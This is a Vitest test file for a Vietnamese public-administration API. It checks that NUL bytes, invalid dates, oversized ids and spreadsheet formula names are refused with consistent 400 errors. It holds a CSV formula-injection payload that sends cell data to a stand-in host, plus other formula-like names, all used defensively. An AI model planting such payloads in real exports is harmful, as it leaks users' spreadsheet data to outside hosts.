import { beforeAll, describe, expect, it } from 'vitest';
import { call, createTestApp, login, type Session } from '../../test/app.ts';
import { buildProcedure } from '../../test/dossier-factories.ts';
import { buildUnit, buildUser, TEST_PASSWORD } from '../../test/factories.ts';
import { buildCategory } from '../../test/feedback-factories.ts';

/**
 * Input hygiene over HTTP, as the trust probe (issue #9) found it: NUL bytes, impossible dates and
 * empty patches used to end in a 500 or a silently shifted date; every error carries the one shape.
 */
const t = await createTestApp();
let admin: Session;
const json = async <T = { error: { code: string; message: string; details: Record<string, unknown> } }>(
  res: Response,
) => (await res.json()) as T;

const receive = (extra: Record<string, unknown>) =>
  call(t.app, admin, 'POST', '/api/v1/dossiers', {
    unitCode: 'A',
    procedureCode: 'KS',
    channel: 'direct',
    applicant: { kind: 'person', name: 'Nguyễn Văn An' },
    contactConsent: false,
    documents: [],
    ...extra,
  });

beforeAll(async () => {
  t.setNow(new Date('2026-03-02T09:00:00+07:00'));
  await buildUnit(t.ctx, { code: 'T', name: 'Tỉnh Thử', type: 'province' });
  await buildUnit(t.ctx, { code: 'A', name: 'UBND xã An', parentCode: 'T' });
  await buildProcedure(t.ctx, { code: 'KS', name: 'Đăng ký khai sinh', days: 5, unitCodes: ['A'] });
  await buildCategory(t.ctx, { code: 'RAC-A', unitCode: 'A' });
  await buildUser(t.ctx, { unitCode: 'T', role: 'admin', username: 'admin.t' });
  admin = await login(t.app, 'admin.t', TEST_PASSWORD);
});

describe('NUL bytes', () => {
  it('are refused with 400 NUL_BYTE wherever they are: path, query, JSON body (naming the field)', async () => {
    const inPath = await call(t.app, admin, 'GET', '/api/v1/units/A%00');
    expect(inPath.status).toBe(400);
    expect(await json(inPath)).toEqual({
      error: { code: 'NUL_BYTE', message: expect.stringContaining('NUL'), details: { where: 'path' } },
    });
    const inQuery = await call(t.app, null, 'GET', '/api/v1/public/feedback?unitCode=a%00b');
    expect(inQuery.status).toBe(400);
    expect((await json(inQuery)).error.details).toEqual({ where: 'query' });
    const inBody = await call(t.app, admin, 'POST', '/api/v1/units', {
      code: 'X1',
      name: 'Xã\u0000Mới',
      type: 'commune',
      parentCode: 'T',
    });
    expect(inBody.status).toBe(400);
    expect((await json(inBody)).error).toMatchObject({
      code: 'NUL_BYTE',
      message: expect.stringContaining('name'),
      details: { where: 'body', field: 'name' },
    });
    // Nothing was written.
    expect((await call(t.app, admin, 'GET', '/api/v1/units/X1')).status).toBe(404);
  });

  it('a lone UTF-16 surrogate in a JSON string (valid JSON, no UTF-8 text) is a 400, not a 500', async () => {
    const res = await call(
      t.app,
      admin,
      'POST',
      '/api/v1/plans/measures',
      '{"questionnaire":"KH-THU","criterion":"C1","task":"Việc","responsible":"VP","product":"\\ud800"}',
    );
    expect(res.status).toBe(400);
    expect((await json(res)).error).toMatchObject({
      code: 'TEXT_ENCODING_INVALID',
      details: { where: 'body', field: 'product' },
    });
    // A real pair (an emoji) is text like any other.
    const emoji = await call(t.app, admin, 'POST', '/api/v1/plans/measures', {
      questionnaire: 'KH-THU',
      criterion: 'C1',
      task: 'Việc 😀',
      responsible: 'VP',
    });
    expect(emoji.status).toBe(201);
  });

  it('in a form field (the public feedback form with photos, Open311 form posts) are a 400, not a 500', async () => {
    const form = new FormData();
    form.set('categoryCode', 'RAC-A');
    form.set('description', 'Đèn đường hỏng\u0000 trước chợ');
    form.set('contactConsent', 'false');
    const multipart = await t.app.request('/api/v1/public/feedback', { method: 'POST', body: form });
    expect(multipart.status).toBe(400);
    expect((await json(multipart)).error).toMatchObject({
      code: 'NUL_BYTE',
      details: { where: 'body', field: 'description' },
    });
    const encoded = await t.app.request('/open311/v2/requests.json', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'service_code=RAC-A&description=%C4%90%C3%A8n%20%C4%91%C6%B0%E1%BB%9Dng%20h%E1%BB%8Fng%00%20tr%C6%B0%E1%BB%9Bc%20ch%E1%BB%A3',
    });
    expect(encoded.status).toBe(400);
    expect(await encoded.json()).toEqual([{ code: 400, description: expect.stringContaining('NUL') }]);
  });

  it('leaves an ordinary escaped backslash alone', async () => {
    const res = await call(t.app, admin, 'POST', '/api/v1/units', {
      code: 'X2',
      name: 'Xã \\u0000 Thử',
      type: 'commune',
      parentCode: 'T',
    });
    expect(res.status).toBe(201);
  });
});

describe('dates and instants', () => {
  it.each([
    ['2026-12-01T25:61', 'giờ 25'],
    ['2026-12-01T23:61', 'phút 61'],
    ['1900-01-01T08:00', 'năm 1900'],
    ['2026-02-30T08:00', 'ngày 30 không có trong tháng 2/2026'],
  ])('a dossier received at %s is a 400 naming receivedAt (%s)', async (receivedAt, why) => {
    const res = await receive({ receivedAt });
    expect(res.status).toBe(400);
    const body = await json(res);
    expect(body.error.code).toBe('VALIDATION_FAILED');
    expect(body.error.message).toContain('receivedAt');
    expect(body.error.message).toContain(why);
    expect(body.error.details).toEqual({ fields: [{ field: 'receivedAt', message: expect.any(String) }] });
  });

  it('a real date is still received at that moment', async () => {
    const res = await receive({ receivedAt: '2026-02-27T08:00' });
    expect(res.status).toBe(201);
    expect((await json<{ receivedAt: string }>(res)).receivedAt).toBe('2026-02-27T01:00:00.000Z');
  });

  it('a month past 9999 or a 13th month is a 400, not a 500', async () => {
    for (const month of ['9999-12', '2026-13', '0000-00']) {
      const res = await call(t.app, admin, 'GET', `/api/v1/dossiers/dashboard?unitCode=A&month=${month}`);
      expect(res.status, month).toBe(400);
      expect((await json(res)).error.message).toContain('month');
    }
    expect(
      (await call(t.app, admin, 'GET', '/api/v1/dossiers/dashboard?unitCode=A&month=2026-03')).status,
    ).toBe(200);
  });

  it('Open311 refuses start_date=2025-02-30 instead of reading 2 March', async () => {
    const res = await t.app.request('/open311/v2/requests.json?start_date=2025-02-30');
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual([{ code: 400, description: expect.stringContaining('start_date') }]);
    const ok = await t.app.request('/open311/v2/requests.json?start_date=2025-02-28');
    expect(ok.status).toBe(200);
  });

  it('a wave that closes on 31 April is refused', async () => {
    const res = await call(t.app, admin, 'POST', '/api/v1/surveys/waves', {
      code: 'W-2026',
      title: 'Đợt 2026',
      questionnaire: 'KHONG-CO',
      period: '2026',
      opensOn: '2026-04-01',
      closesOn: '2026-04-31',
      ownerUnitCode: 'T',
      unitCodes: ['A'],
      targetSample: 100,
    });
    expect(res.status).toBe(400);
    expect((await json(res)).error.message).toContain('closesOn');
  });
});

describe('names that a spreadsheet would run as formulas (open data)', () => {
  const FORMULA = '=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")';

  it('a unit, a category or a questionnaire cannot be named like a formula', async () => {
    const unit = await call(t.app, admin, 'POST', '/api/v1/units', {
      code: 'X3',
      name: FORMULA,
      type: 'commune',
      parentCode: 'T',
    });
    expect(unit.status).toBe(400);
    expect((await json(unit)).error).toMatchObject({
      code: 'VALIDATION_FAILED',
      message: expect.stringContaining('name: Tên không được bắt đầu bằng =, +, -, @'),
      details: { fields: [{ field: 'name' }] },
    });
    const rename = await call(t.app, admin, 'PATCH', '/api/v1/units/A', { name: '+1+cmd' });
    expect(rename.status).toBe(400);
    const category = await call(t.app, admin, 'POST', '/api/v1/feedback/categories', {
      code: 'RAC',
      name: '@SUM(A1)',
      unitCode: 'A',
    });
    expect(category.status).toBe(400);
    expect((await json(category)).error.message).toContain('name');
  });

  it('a units file with such a name is refused whole, naming the line', async () => {
    const res = await t.app.request('/api/v1/units/import', {
      method: 'POST',
      headers: { ...admin.headers, 'content-type': 'text/csv' },
      body: `code,name,type,parent_code\nX4,Xã Tốt,commune,T\nX5,"${FORMULA.replace(/"/g, '""')}",commune,T\n`,
    });
    expect(res.status).toBe(422);
    const body = await json<{ error: { details: { lines: { line: number; code: string }[] } } }>(res);
    expect(body.error.details.lines).toEqual([expect.objectContaining({ line: 3, code: 'NAME_FORMULA' })]);
    expect((await call(t.app, admin, 'GET', '/api/v1/units/X4')).status).toBe(404);
  });
});

describe('ids past the database integer', () => {
  it('are a 400 in a path or a body, never a 500 from PostgreSQL', async () => {
    for (const path of [
      '/api/v1/plans/2147483648',
      '/api/v1/surveys/publications/99999999999',
      '/api/v1/surveys/publications/2147483648',
    ]) {
      const res = await call(t.app, admin, 'GET', path);
      expect(res.status, path).toBe(400);
      expect((await json(res)).error.message).toContain('id');
    }
    expect((await call(t.app, admin, 'GET', '/api/v1/plans/2147483647')).status).toBe(404);
    const res = await call(t.app, admin, 'POST', '/api/v1/surveys/publications', {
      questionnaire: 'KH-THU',
      period: '2025',
      scopeUnitCode: 'A',
      title: 'Kết quả 2025',
      supersedesId: 2147483648,
    });
    expect(res.status).toBe(400);
    expect((await json(res)).error.message).toContain('supersedesId');
  });
});

describe('the error shape', () => {
  it('an empty measure patch is a 400, not a 500', async () => {
    const created = await call(t.app, admin, 'POST', '/api/v1/plans/measures', {
      questionnaire: 'KH-THU',
      criterion: 'C1',
      task: 'Niêm yết thủ tục',
      responsible: 'Văn phòng',
    });
    expect(created.status).toBe(201);
    const { id } = await json<{ id: number }>(created);
    const res = await call(t.app, admin, 'PATCH', `/api/v1/plans/measures/${id}`, {});
    expect(res.status).toBe(400);
    expect((await json(res)).error.code).toBe('VALIDATION_FAILED');
  });

  it('always has details, an object: 404 of the API and of the framework, 401, 403', async () => {
    const bodies = await Promise.all([
      call(t.app, null, 'GET', '/api/v1/khong-co'),
      call(t.app, null, 'POST', '/khong-co', {}),
      call(t.app, null, 'GET', '/api/v1/units'),
      call(t.app, { headers: { cookie: admin.headers.cookie! } }, 'POST', '/api/v1/units', {}),
    ]);
    expect(bodies.map((r) => r.status)).toEqual([404, 404, 401, 403]);
    for (const res of bodies) {
      const body = await json(res);
      expect(Object.keys(body.error).sort()).toEqual(['code', 'details', 'message']);
      expect(body.error.details).toBeTypeOf('object');
      expect(body.error.details).not.toBeNull();
    }
  });
});
